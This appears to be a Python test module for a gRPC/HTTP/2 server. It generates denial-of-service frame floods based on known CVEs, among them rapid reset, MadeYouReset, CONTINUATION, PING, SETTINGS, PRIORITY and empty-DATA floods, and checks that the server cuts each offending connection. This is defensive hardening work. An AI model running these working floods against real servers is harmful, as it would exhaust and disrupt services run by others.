"""Floods of frames: cheap to send, dear to serve. Each must cost the sender its connection."""
import frames as h2
from abuse import Ids, Verdict, attack, flood, per_conn
from frames import MAX_WINDOW, Closed
from grpc_wire import answer, block, call, echo, message

MANY = 200  # frames a burst


def opened(c, extra=()):
    """One open call, id 1, whose body is to come."""
    return h2.headers(1, block(c, extra))


def resets(c, ids, count=MANY):
    head = block(c)
    return b"".join(h2.headers(stream, head, end=True) + h2.rst_stream(stream) for stream in ids.take(count))


@attack("rapid reset: HEADERS + RST_STREAM as fast as they go (CVE-2023-44487)", control=False,
        why_not="nghttp2 allows 1,000 resets, then 33 a second")
def rapid_reset(a):
    return flood(a, per_conn(resets))


@attack("rapid reset below nghttp2's own limit: 300 a second (ours: 100 + 10/s)")
def rapid_reset_paced(a):
    return flood(a, per_conn(lambda c, ids: resets(c, ids, 15)), per_s=20)


# ---- MadeYouReset (CVE-2025-8671): frames that oblige the server to reset a stream of its own ----------------------
# A stream that was reset no longer counts, so these run on without ever reaching the limit of streams. In bursts of
# 16, 320 a second: more at once would be too many streams, which nghttp2 ends by itself.

LIMIT = h2.MAX_CONCURRENT_STREAMS


def greeted(a):
    """A connection that has seen the server's SETTINGS and does not acknowledge them."""
    c = a.conn(shake=False)
    c.send(h2.PREFACE, h2.settings())
    for seen in c.frames(1):
        if isinstance(seen, h2.Frame) and seen.kind == h2.SETTINGS and not seen.ack:
            c.peer_settings.update(h2.struct.iter_unpack(">HI", seen.payload))
            return c
    c.close()
    raise Closed("no SETTINGS")


def each(make, count=16):
    """make(stream, header block) for new streams."""
    return per_conn(lambda c, ids: b"".join(make(stream, block(c)) for stream in ids.take(count)))


@attack("MadeYouReset: a stream window beyond 2^31-1")
def reset_by_window_overflow(a):
    return flood(a, each(lambda stream, head: h2.headers(stream, head) + h2.window_update(stream, MAX_WINDOW) * 2),
                 per_s=20)


@attack("MadeYouReset: DATA beyond content-length")
def reset_by_content_length(a):
    length = h2.hpack.literal(b"content-length", b"1")
    return flood(a, each(lambda stream, head: h2.headers(stream, head + length) + h2.data(stream, b"body", end=True)),
                 per_s=20)


@attack("MadeYouReset: malformed requests (upper case field names)")
def reset_by_malformed(a):
    upper = h2.hpack.literal(b"X-TEST", b"1")
    return flood(a, each(lambda stream, head: h2.headers(stream, head + upper, end=True)), per_s=20)


@attack("MadeYouReset: malformed requests, as fast as they go")
def reset_by_malformed_fast(a):
    upper = h2.hpack.literal(b"X-TEST", b"1")
    return flood(a, each(lambda stream, head: h2.headers(stream, head + upper, end=True), MANY))


@attack("MadeYouReset: a second HEADERS without END_STREAM")
def reset_by_second_headers(a):
    second = h2.hpack.literal(b"x-test", b"1")
    return flood(a, each(lambda stream, head: h2.headers(stream, head) + h2.headers(stream, second)), per_s=20)


@attack("MadeYouReset: streams beyond the announced limit, by one who never acknowledges it")
def reset_by_refusal(a):
    def conn():
        return greeted(a)

    def opening(c):
        c.ids = Ids()
        return b"".join(h2.headers(stream, block(c)) for stream in c.ids.take(c.peer_settings[LIMIT]))
    return flood(a, each(lambda stream, head: h2.headers(stream, head)), opening, per_s=20, conn=conn)


@attack("MadeYouReset: WINDOW_UPDATE of 0 on each new stream", control=False,
        why_not="nghttp2 1.52 takes it for a connection error")
def reset_by_zero_window(a):
    return flood(a, each(lambda stream, head: h2.headers(stream, head) + h2.window_update(stream, 0)))


@attack("MadeYouReset: DATA on a half-closed stream", control=False, why_not="nghttp2: a connection error")
def reset_by_data_half_closed(a):
    return flood(a, each(lambda stream, head: h2.headers(stream, head, end=True) + h2.data(stream, b"body")))


@attack("MadeYouReset: HEADERS on a half-closed stream", control=False, why_not="nghttp2: a connection error")
def reset_by_headers_half_closed(a):
    return flood(a, each(lambda stream, head: h2.headers(stream, head, end=True) * 2))


@attack("MadeYouReset: streams that depend on themselves", control=False, why_not="nghttp2: a connection error")
def reset_by_self_dependency(a):
    return flood(a, each(lambda stream, head: h2.headers(stream, head, depends=stream)))


# ---- frames that mean little -----------------------------------------------------------------------------------------

@attack("CONTINUATION without end (CVE-2024-27316)", control=False, why_not="nghttp2 (deb12u2 on) stops after 8")
def continuation_flood(a):
    piece = h2.hpack.literal(b"x-continued", b"x" * 100)
    return flood(a, lambda c: h2.continuation(1, piece) * MANY,
                 opening=lambda c: h2.headers(1, block(c), end_headers=False))


@attack("empty CONTINUATION without end", control=False, why_not="nghttp2 (deb12u2 on) stops after 8")
def continuation_empty(a):
    return flood(a, lambda c: h2.continuation(1) * MANY,
                 opening=lambda c: h2.headers(1, block(c), end_headers=False))


@attack("PING as fast as it goes, answers read (CVE-2019-9512)", control=False,
        why_not="nghttp2 allows 1,000 acknowledgements waiting within one read")
def ping_flood(a):
    return flood(a, lambda c: h2.ping() * MANY)


@attack("PING, 1,000 a second, answers read")
def ping_flood_paced(a):
    return flood(a, lambda c: h2.ping() * 50, per_s=20)


@attack("PING as fast as it goes, answers not read", control=False,
        why_not="nghttp2 allows 1,000 queued acknowledgements")
def ping_flood_unread(a):
    return flood(a, lambda c: h2.ping() * MANY, read=False)


@attack("PING acknowledgements nobody asked for")
def ping_ack_flood(a):
    return flood(a, lambda c: h2.ping(ack=True) * MANY)


@attack("SETTINGS as fast as they go (CVE-2019-9515)", control=False,
        why_not="nghttp2 allows 1,000 acknowledgements waiting within one read")
def settings_flood(a):
    return flood(a, lambda c: h2.settings([(h2.MAX_CONCURRENT_STREAMS, 100)]) * MANY)


@attack("SETTINGS, 1,000 a second, answers read")
def settings_flood_paced(a):
    return flood(a, lambda c: h2.settings([(h2.MAX_CONCURRENT_STREAMS, 100)]) * 50, per_s=20)


@attack("SETTINGS, answers not read", control=False, why_not="nghttp2 allows 1,000 queued acknowledgements")
def settings_flood_unread(a):
    return flood(a, lambda c: h2.settings() * MANY, read=False)


@attack("SETTINGS with 2,000 entries", control=False, why_not="nghttp2 allows 32 entries")
def settings_large(a):
    return flood(a, lambda c: h2.settings([(0xff, number) for number in range(2000)]) * 10)


@attack("INITIAL_WINDOW_SIZE to and fro, 1,000 a second, with 30 streams open, all touched each time")
def window_oscillation(a):
    def opening(c):
        return b"".join(h2.headers(stream, block(c)) for stream in range(1, 61, 2))
    swing = h2.settings([(h2.INITIAL_WINDOW_SIZE, 0)]) + h2.settings([(h2.INITIAL_WINDOW_SIZE, 65535)])
    return flood(a, lambda c: swing * 25, opening, per_s=20)


@attack("WINDOW_UPDATE of 1 on the connection")
def window_update_flood(a):
    return flood(a, lambda c: h2.window_update(0, 1) * MANY)


@attack("WINDOW_UPDATE of 1 on a stream")
def window_update_stream_flood(a):
    return flood(a, lambda c: h2.window_update(1, 1) * MANY, opened)


@attack("WINDOW_UPDATE on a stream long gone")
def window_update_closed_flood(a):
    return flood(a, lambda c: h2.window_update(1, 1) * MANY, lambda c: opened(c) + h2.rst_stream(1))


@attack("empty DATA frames (CVE-2019-9518)")
def empty_data(a):
    return flood(a, lambda c: h2.data(1) * MANY, opened)


@attack("DATA frames that are all padding, 400 a second, within the window")
def padding_data(a):
    return flood(a, lambda c: h2.data(1, pad=255) * 20, opened, per_s=20)


@attack("DATA for a stream that was reset", control=False, why_not="nghttp2: a connection error")
def data_after_reset(a):
    return flood(a, lambda c: h2.data(1, b"x") * MANY, lambda c: opened(c) + h2.rst_stream(1))


def made_reset(c):
    """Stream 1 is reset by the server, whose retained memory of it lets late frames pass."""
    return h2.headers(1, block(c, [("content-length", "1")])) + h2.data(1, b"body")


@attack("DATA for a stream that the server has reset, for ever")
def data_after_server_reset(a):
    return flood(a, lambda c: h2.data(1, b"x") * MANY, made_reset)


@attack("header blocks of 16 KB for a stream that the server has reset: decoded, told to nobody")
def headers_after_server_reset(a):
    return flood(a, lambda c: h2.headers(1, h2.hpack.indexed(2) * 16000) * 4, made_reset)


@attack("RST_STREAM again and again on one dead stream, 300 a second")
def reset_closed_flood(a):
    return flood(a, lambda c: h2.rst_stream(1) * 15, opened, per_s=20)


@attack("PRIORITY as fast as it goes (CVE-2019-9513)")
def priority_flood(a):
    return flood(a, per_conn(lambda c, ids: b"".join(h2.priority(stream, depends=max(0, stream - 2))
                                                     for stream in ids.take(MANY))))


@attack("frames of an unknown type")
def unknown_flood(a):
    return flood(a, lambda c: h2.frame(0xbe, 0, 0, bytes(8)) * MANY)


@attack("GOAWAY again and again, with a call open")
def goaway_flood(a):
    return flood(a, lambda c: h2.goaway(0) * MANY, opened)


@attack("frames that claim 16 MiB", control=False, why_not="nghttp2: FRAME_SIZE_ERROR")
def giant_frame(a):
    return flood(a, lambda c: h2.frame(0, 0, 1, b"x" * 65536, length=2 ** 24 - 1), opened)


@attack("PUSH_PROMISE from a client", control=False, why_not="nghttp2: a connection error")
def push_flood(a):
    return flood(a, lambda c: h2.push_promise(1, 3, block(c)) * 10, opened)


# ---- not to be cut, but to be borne ----------------------------------------------------------------------------------

@attack("stream ids that jump by 2,000: no state per id", control=False, cpu=None,
        why_not="ids cost nothing; it shows that nothing was built on them")
def id_jumps(a):
    body, done = message(echo(b"x" * 16)), 0
    while a.left() > 0:
        try:
            c, stream = a.conn(), 1
        except Closed:
            continue
        while a.left() > 0 and stream < MAX_WINDOW:
            c.send(call(c, stream, body))
            status, _, ended = answer(c, stream)
            if status != 0:
                return Verdict(False, f"stream {stream}: {ended}")
            stream, done = stream + 2000, done + 1
        c.close()
    return Verdict(True, f"{done} calls answered, the last on stream {stream - 2000}")


@attack("SETTINGS never acknowledged: the stream limit holds all the same")
def settings_unacked(a):
    c = greeted(a)
    limit = c.peer_settings.get(LIMIT)
    if limit is None:
        return Verdict(False, "no stream limit announced")
    head, refused = block(c), 0
    c.send(b"".join(h2.headers(stream, head) for stream in range(1, 2 * (limit + 20), 2)))
    for seen in c.frames(1):
        refused += isinstance(seen, h2.Frame) and seen.kind == h2.RST_STREAM and seen.code == h2.REFUSED_STREAM
    return Verdict(limit <= 128 and refused >= 20, f"limit {limit}, {refused} of 20 beyond it refused")
